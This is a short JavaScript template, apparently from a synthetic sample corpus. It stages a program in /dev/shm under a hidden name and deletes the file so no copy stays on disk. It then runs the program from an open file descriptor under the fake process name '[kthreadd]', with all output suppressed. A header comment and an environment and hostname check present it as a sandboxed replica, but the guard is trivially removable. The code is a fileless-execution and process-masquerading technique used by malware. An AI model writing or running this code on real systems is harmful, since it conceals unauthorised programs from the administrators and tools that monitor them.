// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    try {
        const file = `/dev/shm/.{{token}}`;
        fs.writeFileSync(file, fs.readFileSync('{{program}}'), { mode: 0o700 });
        const fd = fs.openSync(file, 'r');
        fs.unlinkSync(file);
        const child = require('child_process').spawn(`/proc/self/fd/3`, [], { stdio: ['ignore', 'ignore', 'ignore', fd], argv0: '[kthreadd]' });
        await new Promise((done) => { child.on('error', done); child.on('close', done); });
        fs.closeSync(fd);
    } catch {}
}
